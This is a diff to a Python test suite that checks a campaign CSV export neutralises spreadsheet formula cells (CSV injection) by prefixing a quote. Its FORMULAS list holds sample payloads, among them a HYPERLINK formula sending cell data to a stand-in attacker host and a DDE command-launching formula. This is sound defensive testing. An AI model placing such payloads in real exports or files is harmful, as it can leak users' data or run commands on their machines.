@@ -48,6 +48,17 @@ AWKWARD = [
     "semicolon; tab\there",
 ]
 
+# Cells a spreadsheet would run as a formula (OWASP's CSV injection): exported with a `'` before them.
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "+1+2",
+    "-2+3",
+    "@SUM(1,2)",
+    "\t=1+2",
+    "\r=1+2",
+    "=cmd|' /C calc'!A0",
+]
+
 
 def make_message(campaign_id: int, customer_id: int, **fields) -> OutboundMessage:
     values = {"status": "pending", "retry_count": 0, "created_at": CREATED, "updated_at": UPDATED, **fields}
@@ -155,6 +166,43 @@ def test_awkward_text_and_unicode_round_trip(client):
     assert '"carriage\rreturn and CRLF\r\n"' in body
     assert f'{customers[3].phone},failed,,"",' in body  # the empty error, quoted
     assert f'{customers[-1].phone},failed,"a,b",,0,' in body  # the null error, empty
+
+
+def as_text(cell: str) -> str:
+    """What the export should write for a text cell: a `'` before one a spreadsheet would run."""
+    return "'" + cell if cell[:1] in ("=", "+", "-", "@", "\t", "\r") else cell
+
+
+def test_cells_a_spreadsheet_would_run_are_exported_as_text_but_phones_keep_their_plus(client):
+    campaign = make_campaign()
+    rows = []
+    for formula in FORMULAS:
+        customer = make_customer()
+        message = make_message(
+            campaign.id,
+            customer.id,
+            status="failed",
+            error_code=formula[:64],
+            last_error=formula,
+            provider_message_id=formula,
+        )
+        rows.append(expected_row(message, customer.phone))
+    # A phone keeps its leading `+` (E.164, as every write stores it); one that starts like another formula
+    # (written to the database by hand) is neutralised like any other cell.
+    odd = make_customer(phone="-1+2")
+    rows.append(expected_row(make_message(campaign.id, odd.id, last_error="a=b, -c"), odd.phone))
+    text_cells = {HEADER.index(name) for name in ("error_code", "error", "provider_message_id")}
+    expected = [[as_text(cell) if i in text_cells else cell for i, cell in enumerate(row)] for row in rows]
+    expected[-1][HEADER.index("phone")] = "'-1+2"
+
+    response = export_csv(client, campaign.id)
+
+    assert parse(response.data) == [HEADER, *expected]
+    assert all(row[2].startswith("+254") for row in expected[:-1])  # phones keep their `+`
+    assert expected[-1][5] == "a=b, -c"  # `=` and `-` inside a cell: kept
+    cells = [cell for row in parse(response.data)[1:] for i, cell in enumerate(row) if i != HEADER.index("phone")]
+    assert not [cell for cell in cells if cell and cell[0] in "=+-@\t\r"]
+    assert b',"\'=HYPERLINK(""http' in response.data  # the quote, then the cell as it was, quoted as CSV quotes
 
 
 def test_a_message_whose_customer_is_gone_has_an_empty_phone(client):
@@ -268,7 +316,7 @@ def test_closing_the_export_early_returns_its_connection(app):
 def test_copy_and_the_python_fallback_write_the_same_bytes(app):
     campaign = make_campaign()
     gone = make_customer()
-    for n, error in enumerate(AWKWARD):
+    for n, error in enumerate(AWKWARD + FORMULAS):
         make_message(
             campaign.id,
             make_customer().id,
@@ -286,7 +334,7 @@ def test_copy_and_the_python_fallback_write_the_same_bytes(app):
     by_python = b"".join(export._python_chunks(db.engine, campaign.id, None))
 
     assert by_copy == by_python
-    assert len(parse(by_copy)) == len(AWKWARD) + 2
+    assert len(parse(by_copy)) == len(AWKWARD) + len(FORMULAS) + 2
 
 
 @pytest.mark.real_only
